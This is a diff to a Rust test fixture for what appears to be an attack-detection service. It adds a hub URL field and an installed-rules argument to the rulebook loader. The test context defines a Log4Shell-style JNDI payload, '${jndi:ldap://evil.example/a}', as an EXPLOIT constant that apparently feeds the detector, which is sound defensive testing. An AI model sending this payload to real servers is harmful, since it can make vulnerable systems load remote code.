@@ -8,6 +8,7 @@ use store::Store;
 use vocab::{ClientAddr, Kind};
 
 use super::*;
+use crate::rulebook::Installed;
 
 const EXPLOIT: &str = "/?x=${jndi:ldap://evil.example/a}";
 const HOST: &str = "www.example.org";
@@ -24,6 +25,7 @@ impl House {
         let detection = Detection {
             enabled: true,
             hub: None,
+            hub_url: String::new(),
             items: Vec::new(),
             rules: None,
             patterns: None,
@@ -37,7 +39,7 @@ impl House {
         let (store, recovered) = Store::open(directory.path()).unwrap();
         let (profiles, policy) = (respond::Profiles::default(), AdmitPolicy::default());
         let bookkeeper = Arc::new(Bookkeeper::new(store, &recovered, profiles, policy));
-        let rules = crate::rulebook::load(&detection).unwrap();
+        let rules = crate::rulebook::load(&detection, &Installed::default()).unwrap();
         let sites: Vec<(String, SiteVolume)> = sites
             .iter()
             .map(|(name, volume)| ((*name).to_owned(), *volume))
